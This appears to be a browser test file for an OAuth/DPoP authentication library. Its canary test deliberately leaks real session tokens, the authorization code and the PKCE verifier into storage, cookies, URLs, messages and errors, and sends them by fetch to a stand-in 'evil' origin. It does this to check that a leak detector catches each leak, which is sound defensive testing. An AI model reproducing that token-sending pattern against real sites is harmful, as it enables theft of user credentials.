import { decodeProtectedHeader } from 'jose'
import { expect, test, type Planted } from '../support/fixture.js'
import { serve } from '../support/node-server.js'
import { proofIn } from '../support/dpop.js'
import { stored } from '../support/session.js'

const everywhere: Planted = {
  console: 'Here it is seen',
  error: 'that each of these places',
  state: 'is looked at after',
  message: 'every other test',
  history: 'too',
  localStorage: 'too',
  sessionStorage: 'too',
  cookie: 'too',
  URL: 'too',
  Referer: 'too',
  API: 'too',
  'another origin': 'too',
  'authorization server': 'too',
}

/** The ways in which this test leaks secrets, and the place where each leak is found. */
const ways = {
  logged: 'console',
  cause: 'error',
  aggregate: 'error',
  rejected: 'error',
  claim: 'state',
  channel: 'message',
  port: 'message',
  posted: 'message',
  address: 'history',
  entry: 'history',
  set: 'localStorage',
  assigned: 'localStorage',
  session: 'sessionStorage',
  cookie: 'cookie',
  query: 'URL',
  referer: 'Referer',
  body: 'API',
  header: 'API',
  bearer: 'API',
  path: 'another origin',
  sent: 'another origin',
  asked: 'authorization server',
} as const

type Way = keyof typeof ways

test.describe('the canaries', () => {
  test.use({ planted: everywhere, options: { dpop: true } })

  test('find every kind of secret in every place where it does not belong', async ({
    app,
    api,
    servers,
    server,
    canaries,
    context,
  }) => {
    await app.open()
    await app.signIn()
    await app.fetch(`${api.url}me`)
    await app.refresh()
    await app.attempt(() => window.auth.userInfo())
    expect(canaries.found({}, undefined)).toEqual([])

    const [exchange] = server.requests('token')
    const { code = '', code_verifier = '' } = exchange!.params
    const { refreshToken = '', idToken = '' } = (await stored(app)) as { idToken?: string } & {
      refreshToken?: string
    }
    const token = (await app.token()).value ?? ''
    const kid = decodeProtectedHeader(idToken).kid ?? ''
    const jkt = (await proofIn(exchange!))?.jkt ?? ''
    const secrets = { idToken, token, refreshToken, code, code_verifier, jkt, kid }
    // Each leak ends with the name of its way.
    const all = Object.fromEntries(
      Object.keys(ways).map((way) => [way, [...Object.values(secrets), way, kid].join('~')]),
    ) as Record<Way, string>

    server.fail('userinfo', { body: (json) => ({ ...json, claim: all.claim }) })
    const places = [all, servers.evil.origin, api.url, server.issuer] as const
    await app.attempt(async ([leak, evil, own, issuer]: typeof places) => {
      await window.auth.userInfo()
      console.info({ found: [leak.logged] })
      new BroadcastChannel('theirs').postMessage({ it: leak.channel })
      new MessageChannel().port1.postMessage(leak.port)
      window.postMessage([leak.posted], location.origin)
      localStorage.setItem('theirs', leak.set)
      localStorage['mine'] = leak.assigned
      sessionStorage.setItem('pixy-auth:session:theirs', leak.session)
      document.cookie = `theirs=${leak.cookie}`
      await fetch(`${own}?${leak.query}`)
      await fetch(own, { method: 'POST', body: leak.body })
      await fetch(own, { headers: { 'x-test': leak.header } })
      // A token in the header that is no access token.
      await fetch(own, { headers: { authorization: `Bearer ${leak.bearer}` } })
      await fetch(`${evil}/${leak.path}`)
      await fetch(evil, { method: 'POST', body: leak.sent })
      await fetch(`${issuer}/userinfo?token=${leak.asked}`).catch(() => {})
      history.replaceState(null, '', `/?${leak.referer}`)
      await fetch(own, { referrerPolicy: 'unsafe-url' })
      history.replaceState({ it: leak.entry }, '', `/?code=${leak.address}`)
      void Promise.reject(new Error('outer', { cause: { it: leak.rejected } }))
      const inner = new Error('inner', { cause: leak.cause })
      throw new AggregateError([leak.aggregate, inner], 'outer', { cause: inner })
    }, places)
    await canaries.look(context)

    const found = canaries.found({}, undefined)
    const seen = (mark: string, place: string): boolean =>
      found.some((one) => one.startsWith(`${place}: `) && one.includes(mark))
    for (const [way, place] of Object.entries(ways))
      expect.soft(seen(`${way}~${kid}`, place), `${way} in ${place}`).toBe(true)
    for (const [kind, secret] of Object.entries(secrets)) {
      const mark = (secret.split('.')[2] ?? secret).slice(0, 24)
      const places = Object.keys(everywhere).filter((place) => seen(mark, place))
      expect.soft(places, kind).toEqual(Object.keys(everywhere))
    }
  })
})

test('the test browsers keep and send no third-party cookie', async ({ app }) => {
  const arrived: (string | null)[] = []
  const cookie = 'sid=1; SameSite=None; Secure; Path=/'
  const answer = (request: Request): Response => {
    arrived.push(request.headers.get('cookie'))
    const headers = new Headers({ 'set-cookie': cookie, 'content-type': 'text/html' })
    headers.set('access-control-allow-origin', request.headers.get('origin') ?? 'null')
    headers.set('access-control-allow-credentials', 'true')
    return new Response('<!doctype html><link rel="icon" href="data:,">', { headers })
  }
  const other = await serve(async (request) => answer(request), { host: '127.0.0.1' })
  const call = (): Promise<number> =>
    app.page.evaluate(
      async (url) => (await fetch(url, { credentials: 'include' })).status,
      other.origin,
    )
  const took = (): (string | null)[] => arrived.splice(0)
  await app.open()
  expect([await call(), await call(), took()]).toEqual([200, 200, [null, null]])
  // On a page of the other origin it is a first-party cookie.
  await app.page.goto(other.origin)
  await app.page.goto(other.origin)
  expect(took()).toEqual([null, 'sid=1'])
  await app.open()
  expect([await call(), took()]).toEqual([200, [null]])
  await other.close()
})
